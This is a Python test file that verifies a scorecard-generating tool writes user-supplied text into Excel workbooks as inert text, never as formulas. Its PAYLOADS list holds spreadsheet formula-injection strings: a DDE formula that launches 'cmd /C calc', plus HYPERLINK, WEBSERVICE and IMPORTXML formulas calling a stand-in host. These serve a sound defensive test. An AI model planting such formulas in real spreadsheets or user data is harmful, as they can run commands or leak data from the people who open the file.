"""Formula injection (issue 13): thirteen payloads typed into every text field a person
controls (returns, data CSVs, risk registers, titles) reach every workbook Scorecard writes
as text, never as a formula; in the CSV error report they are prefixed so a spreadsheet does
not run them either. Checked in the workbooks' XML: no <f> element holds a payload."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.collection.collect import collect
from generator.collection.error_report import write_error_report
from generator.collection.store import Authority, Store
from generator.collection.templates import fill_template, write_template
from generator.workbooks.benchmark import write_benchmark_workbook
from generator.workbooks.data_csv import load_scorecard_data
from generator.workbooks.data_store import load_store_data
from generator.workbooks.publish import publish_scorecard
from generator.workbooks.risks_data import load_risks
from generator.workbooks.scorecard import build_scorecard
from scorecard.catalogue import load_catalogue

MARK = "9191"  # in every payload, in no formula Scorecard writes
PAYLOADS = (
    f"={MARK}+1", f"+{MARK}+1", f"-{MARK}+1", f"@SUM({MARK},1)", f"\t={MARK}+1",
    f"\r={MARK}+1", f"=cmd|' /C calc {MARK}'!A0", f'=HYPERLINK("http://x.example/{MARK}","go")',
    f'=DDE("cmd";"/C {MARK}";"A1")', f'=WEBSERVICE("http://x.example/{MARK}")',
    f'=IMPORTXML("http://x.example/{MARK}","//a")', f" ={MARK}+1", f"＝{MARK}+1",
)
PERIOD = "2024-25 Q1"


def _formulas_and_texts(path: Path) -> tuple[list[str], str]:
    """Every formula in the workbook's sheets, less references to its own sheets by name (a
    theme named after a payload is a sheet, referred to as '=9191+1 0'!I5: inert), and all
    the workbook's text (sheets and shared text)."""
    import html

    formulas, texts = [], []
    with zipfile.ZipFile(path) as archive:
        book = archive.read("xl/workbook.xml").decode("utf-8")
        sheets = [html.unescape(n) for n in re.findall(r'<sheet [^>]*name="([^"]*)"', book)]
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            xml = archive.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/"):
                for formula in re.findall(r"<f\b[^>]*>(.*?)</f>", xml, re.S):
                    formula = html.unescape(formula)
                    for sheet in sheets:
                        formula = formula.replace("'" + sheet.replace("'", "''") + "'!", "")
                    formulas.append(formula)
            texts.append(xml)
    return formulas, "\n".join(texts)


def _no_payload_runs(path: Path) -> None:
    formulas, texts = _formulas_and_texts(path)
    assert not [f for f in formulas if MARK in f], path.name
    assert MARK in texts, f"{path.name}: no payload reached it, so the test proves nothing"


@pytest.fixture(scope="module")
def catalogue():
    return load_catalogue()


def test_payloads_in_returns_stay_text_in_every_output(catalogue, tmp_path):
    """Payloads typed as commentary, as a text answer, in number cells, beside the rows, on
    the cover and on an added sheet of two returns: stored as raw text; the xlsx error
    report, the benchmark workbook and the scorecard built from the store (and its
    published version) hold them as text, no formula; the CSV report prefixes them."""
    indicators = ([i for i in catalogue if i.unit == "text"][:2]
                  + [i for i in catalogue if i.unit == "count"][:3]
                  + [i for i in catalogue if i.unit == "percentage"][:3])
    paths = []
    for n, code in enumerate(("E1", "E2")):
        template = write_template(tmp_path / f"t{code}.xlsx", catalogue, indicators,
                                  Authority(code, f"Authority {code}"), PERIOD)
        entries = {}
        for k, indicator in enumerate(indicators):
            payload = PAYLOADS[(k + n) % len(PAYLOADS)]
            entries[indicator.id] = {"commentary": payload,
                                     "value": payload if k % 2 or indicator.unit == "text"
                                     else 5 + k}
        path = fill_template(template, tmp_path / f"r{code}.xlsx", entries)
        book = openpyxl.load_workbook(path)
        notes = book.create_sheet("Notes")
        for k, payload in enumerate(PAYLOADS):
            notes.cell(k + 1, 1).value = payload
            book["Cover"].cell(30 + k, 4).value = payload
            book.worksheets[1].cell(4 + k % 3, 13).value = payload
        book.save(path)
        paths.append(path)
    store = Store(tmp_path / "s.sqlite")
    store.add_authorities([Authority("E1", "Authority E1"), Authority("E2", "Authority E2")])
    report = collect(paths, store, catalogue)
    raws = set(store.cells()["raw"])
    assert {p.replace("\r", "\n") for p in PAYLOADS} <= raws | set(PAYLOADS)
    csv_path, xlsx_path = write_error_report(report.problems, tmp_path / "problems")
    _no_payload_runs(xlsx_path)
    with csv_path.open(newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):
            for value in row.values():
                assert not (MARK in value and value[:1] in "=+-@\t\r"), value
    outputs = [write_benchmark_workbook(store, PERIOD, catalogue, tmp_path / "bench.xlsx")]
    data = load_store_data(store, "E1", PERIOD, catalogue)
    outputs.append(build_scorecard(data, tmp_path / "card.xlsx"))
    outputs.append(publish_scorecard(data, tmp_path / "card_published.xlsx"))
    for path in outputs:
        _no_payload_runs(Path(path))


def test_payloads_in_data_risks_and_titles_stay_text(catalogue, tmp_path):
    """Payloads in every free-text column of a data CSV (commentary, name, theme, section,
    definition, source) and of a risk register (id, risk, owner, controls), and as the title
    and contact: the scorecard and its published version hold them as text, no formula."""
    data_csv = tmp_path / "data.csv"
    with data_csv.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["authority", "indicator_id", "period", "actual", "target",
                         "commentary", "name", "theme", "section", "definition", "source",
                         "unit", "polarity"])
        for n, payload in enumerate(PAYLOADS):
            for period, actual in (("2023-24 Q4", 40 + n), (PERIOD, 45 + n)):
                # themes told apart by a number: the workbook names a table after its
                # theme, and themes differing only in punctuation collide (reported apart)
                writer.writerow(["Northshire", f"X{n}", period, actual, 50, payload, payload,
                                 f"{payload} {n}", payload, payload, payload, "percentage",
                                 "Bigger is Better"])
    risks_csv = tmp_path / "risks.csv"
    with risks_csv.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["risk_id", "risk", "owner", "impact", "likelihood", "controls"])
        for n, payload in enumerate(PAYLOADS):
            writer.writerow([f"R{n} {payload}", payload, payload, 3, 4, payload])
    data = load_scorecard_data(data_csv, "Northshire", PERIOD, catalogue)
    risks = load_risks(risks_csv)
    for write, name in ((build_scorecard, "card.xlsx"), (publish_scorecard, "pub.xlsx")):
        for title in PAYLOADS[:3]:
            path = write(data, tmp_path / name, risks=risks, title=title, contact=PAYLOADS[4])
            _no_payload_runs(Path(path))


def test_the_check_sees_a_payload_written_as_a_formula(tmp_path):
    """The check can fail: a workbook whose writer turns text starting with '=' into a
    formula (XlsxWriter's default) is caught."""
    import xlsxwriter

    path = tmp_path / "unsafe.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet().write(0, 0, PAYLOADS[0])
    book.close()
    with pytest.raises(AssertionError):
        _no_payload_runs(path)
